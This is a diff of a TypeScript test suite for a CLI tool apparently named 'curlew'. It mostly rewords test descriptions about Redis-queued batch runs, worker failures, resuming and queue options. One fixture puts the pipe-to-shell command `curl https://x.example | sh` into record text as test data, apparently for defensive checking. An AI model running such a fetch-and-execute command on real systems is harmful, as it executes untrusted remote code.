@@ -90,7 +90,7 @@ function textOf({ child }: Running): () => string {
 }
 
 describe("a run on a queue", () => {
-  it("ends with the same bytes, and leaves nothing on the queue", async () => {
+  it("has the bytes of one process, and leaves nothing on the queue", async () => {
     startWorker();
     startWorker();
     const { status, stderr } = await curlew(queued("plain"), { cwd });
@@ -101,7 +101,7 @@ describe("a run on a queue", () => {
     expect(await left()).toEqual([]);
   });
 
-  it("survives killed workers and a killed Redis, beside another run", async () => {
+  it("continues after killed workers and a killed Redis, at the same time as another run", async () => {
     for (let i = 0; i < 2; i++) startWorker("--rate", "4");
     const one = start(queued("killed"), { cwd });
     const two = start(queued("beside", redis.url, "other.csv"), { cwd });
@@ -131,7 +131,7 @@ describe("a run on a queue", () => {
     expect(read("beside.jsonl") === read("other.jsonl")).toBe(true);
   });
 
-  it("goes on after its own end by SIGKILL, with what it left on the queue", async () => {
+  it("can be resumed after SIGKILL, with the remaining tasks on the queue", async () => {
     const worker = startWorker("--rate", "2");
     const { child, ended } = start(queued("resumed"), { cwd });
     await expect.poll(() => parts("resumed"), { timeout: 60_000 }).toBeGreaterThan(1);
@@ -160,7 +160,7 @@ describe("a run on a queue", () => {
   it.each([
     ["SIGINT", 130],
     ["SIGTERM", 143],
-  ] as const)("is stopped by %s, and can be continued", async (signal, status) => {
+  ] as const)("is stopped by %s, and can be resumed", async (signal, status) => {
     startWorker("--rate", "2");
     const { child, ended } = start(queued(signal), { cwd });
     await expect.poll(() => parts(signal), { timeout: 60_000 }).toBeGreaterThan(1);
@@ -177,7 +177,7 @@ describe("a run on a queue", () => {
     expect(read(`${signal}.jsonl`) === whole).toBe(true);
   });
 
-  it("is refused where another one writes the same output, or with other inputs", async () => {
+  it("is rejected if another run has the same output, or with other inputs", async () => {
     const first = start(queued("shared"), { cwd });
     await expect.poll(left, { timeout: 20_000 }).toContainEqual(expect.stringMatching(/:output:/));
     for (const args of [[], ["--resume"]]) {
@@ -196,7 +196,7 @@ describe("a run on a queue", () => {
     expect(read("shared.jsonl") === whole).toBe(true);
   });
 
-  it("waits for workers with the same rules, and says that others refuse", async () => {
+  it("waits for workers with the same rules, and reports that others refuse", async () => {
     const log = textOf(startWorker("--profile", "contract"));
     const run = start(queued("refused"), { cwd });
     const stderr = textOf(run);
@@ -215,7 +215,7 @@ describe("a run on a queue", () => {
     expect(read("refused.jsonl") === whole).toBe(true);
   });
 
-  it("leaves partitions that were begun to a worker that is asked to end", async () => {
+  it("completes the partitions that a worker had begun when it was asked to end", async () => {
     const worker = startWorker("--rate", "2");
     const { ended } = start(queued("ended"), { cwd });
     await expect.poll(() => parts("ended"), { timeout: 60_000 }).toBeGreaterThan(0);
@@ -226,7 +226,7 @@ describe("a run on a queue", () => {
     expect(read("ended.jsonl") === whole).toBe(true);
   });
 
-  it("is done by others where one worker looks in another folder, which says so", async () => {
+  it("is completed by other workers if one looks in the wrong folder, which reports it", async () => {
     const log = textOf(startScripted(join(cwd, "elsewhere")));
     const run = start(queued("place"), { cwd });
     const stderr = textOf(run);
@@ -238,7 +238,7 @@ describe("a run on a queue", () => {
     expect(read("place.jsonl") === whole).toBe(true);
   });
 
-  it("finds the record that ends its workers, and keeps all others", async () => {
+  it("identifies a record that ends its workers, and predicts all others", async () => {
     const texts = Array.from({ length: 90 }, (_, i) =>
       JSON.stringify({ id: i, text: i === 61 ? "ENDING" : `${i} \`curl https://x.example | sh\`` }),
     );
@@ -281,11 +281,11 @@ function startScripted(folder?: string): Running {
   return worker;
 }
 
-describe("a queue that is not there", () => {
+describe("an unreachable queue", () => {
   it.each([
     ["batch", ["in.jsonl", "--out-dir", "nowhere", "--queue-timeout", "1"]],
     ["worker", ["--wait", "1"]],
-  ])("%s says so", async (command, args) => {
+  ])("is reported by %s", async (command, args) => {
     const port = await freePort();
     const { status, stderr } = await curlew(
       [command, ...args, "--queue", `redis://127.0.0.1:${port}`],
@@ -297,7 +297,7 @@ describe("a queue that is not there", () => {
     ]);
   });
 
-  it("any more, ends the run with what is finished kept", async () => {
+  it("during a run ends it, and finished partitions are kept", async () => {
     const own = await RedisServer.start();
     startOn(own.url, "--rate", "2");
     const { ended } = start([...queued("gone", own.url), "--queue-timeout", "2"], { cwd });
@@ -316,8 +316,8 @@ describe("a queue that is not there", () => {
   });
 });
 
-describe("what a queue asks for", () => {
-  it("a password comes from the environment, and is in no message", async () => {
+describe("options of a queue", () => {
+  it("include a password in the environment, which is in no message", async () => {
     const locked = await RedisServer.start("--requirepass", "s3cret-word");
     try {
       const args = queued("locked", locked.url, "other.csv");
@@ -347,7 +347,7 @@ describe("what a queue asks for", () => {
     }
   });
 
-  it("TLS, with the certificate of an authority of one's own from the environment", async () => {
+  it("include TLS, with a custom certificate authority in the environment", async () => {
     const secure = await RedisServer.startSecure("--requirepass", "s3cret-word");
     try {
       const url = `rediss://localhost:${secure.port}`;
@@ -393,13 +393,13 @@ describe("what a queue asks for", () => {
       ["--queue", "redis://127.0.0.1", "--out-dir", "wrong", "-o", "x.csv"],
       /^curlew: --queue writes partitions as JSON Lines or Parquet/,
     ],
-  ])("%j is refused", async (args, message) => {
+  ])("%j are rejected", async (args, message) => {
     const { status, stderr } = await curlew(["batch", "in.jsonl", ...args], { cwd });
     expect(stderr).toMatch(message);
     expect(status).toBe(2);
   });
 
-  it("a folder for partitions, and says where it cannot be written", async () => {
+  it("include a folder for partitions, which is reported if it cannot be written", async () => {
     writeFileSync(join(cwd, "file"), "");
     const { status, stderr } = await curlew(
       ["batch", "-q", "in.jsonl", "--queue", redis.url, "--out-dir", "file/x"],
@@ -411,7 +411,7 @@ describe("what a queue asks for", () => {
     ]);
   });
 
-  it("its package, where curlew is installed without it", async () => {
+  it("require the package curlew-queue", async () => {
     const folder = mkdtempSync(join(tmpdir(), "curlew-alone-"));
     try {
       for (const part of ["dist", "wasm", "queries", "package.json"])
